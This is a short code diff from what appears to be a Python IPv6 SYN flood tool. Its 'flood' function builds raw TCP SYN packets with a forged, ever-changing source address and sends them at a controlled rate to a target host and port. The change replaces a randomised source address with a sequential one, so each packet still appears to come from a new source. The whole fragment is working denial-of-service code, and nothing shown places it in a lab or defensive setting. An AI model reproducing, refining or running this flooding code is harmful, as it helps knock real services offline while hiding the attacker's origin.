@@ -111,7 +111,7 @@ def flood(dev: str, dst_mac: str, target6: str, rate: float, seconds: float, por
         due = start + i / rate
         while time.perf_counter() < due:
             pass
-        src = (base + i + random.getrandbits(24) * 65536).to_bytes(16, "big")
+        src = (base + i).to_bytes(16, "big")  # a new source every time
         segment = tcp_syn(src, dst, 40000 + (i % 20000), port, True)
         header = struct.pack("!IHBB", 0x60000000, len(segment), 6, 64) + src + dst
         s.sendto(header + segment, address)
